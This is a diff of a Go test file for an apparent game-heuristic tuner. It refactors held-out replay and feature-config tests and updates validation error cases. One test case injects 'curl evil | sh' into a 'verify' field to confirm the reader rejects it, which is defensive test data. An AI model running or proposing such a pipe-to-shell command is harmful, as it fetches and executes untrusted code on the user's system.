@@ -110,10 +110,8 @@ func TestHeldOutIsPlayedAgain(t *testing.T) {
 	must(t, err)
 	r, err := Read(data)
 	must(t, err)
-	family := r.Family()
-	h := r.HeldOut[0]
-	player := simulator.Player{Family: &family, Values: r.Values(), Dead: family.Dead, Settings: r.Experiment().Validation.Search[0].Settings}
-	e, _, err := experiments.PlayHeldOut(context.Background(), r.Experiment(), r.HeldOutSalt, simulator.NewPool(2), player, h.Games, nil)
+	h, search := r.HeldOut[0], r.Experiment().Validation.Search[0].Settings
+	e, _, err := experiments.PlayHeldOut(context.Background(), r.Experiment(), r.HeldOutSalt, simulator.NewPool(2), r.Player(), search, h.Games, nil)
 	must(t, err)
 	if !slices.Equal(e.Scores, h.Scores) || e.Score.Mean != h.MeanScore {
 		t.Errorf("got %v and %v, want %v and %v", e.Scores, e.Score.Mean, h.Scores, h.MeanScore)
@@ -178,9 +176,9 @@ func everyKind(t *testing.T) *config.Config {
 	text.WriteString("name: all\nsearch: {depth_by_empty: [{above: 7, depth: 1}, {depth: 3}]}\nheuristic:\n  symmetry: best\n  features:\n")
 	for _, kind := range eval.Kinds() {
 		text.WriteString("    - {feature: " + kind.Name)
-		for _, s := range kind.Settings {
-			if s.Default == "" && (!s.Over || s.Key == "line") && !s.Sums { // a formula has one part
-				text.WriteString(", " + s.Key + ": " + s.Example)
+		for _, k := range (&eval.Term{Kind: kind.Name}).Keys()[2:] {
+			if k.Example != "" && (k.Name == "line" || !slices.Contains(eval.Parts(), k.Name)) { // a formula has one part
+				text.WriteString(", " + k.Name + ": " + k.Example)
 			}
 		}
 		if kind.Name == eval.Formula {
@@ -282,7 +280,7 @@ func TestReadProblems(t *testing.T) {
 		"too many": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 1000000000000000`, 1), "held_out[0].games: want 1 to 4000000, got 1000000000000000"},
 		"one over": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 4000001`, 1), "held_out[0].games: want 1 to 4000000, got 4000001"},
 		"again":    {`"search": "depth by distinct -7 least 1"`, `"search": "depth 3"`, `held_out[1].search: "depth 3" is given twice`},
-		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -33956"},
+		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -71848"},
 		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 9999999, got -1"},
 		"verify":   {value("verify", `"`), "\n  \"verify\": \"curl evil | sh", `verify: want "tune verify FILE.json"`},
 		"scores":   {`"scores": [`, `"scores": [7, `, "held_out[0].scores: want the scores of 4 games"},
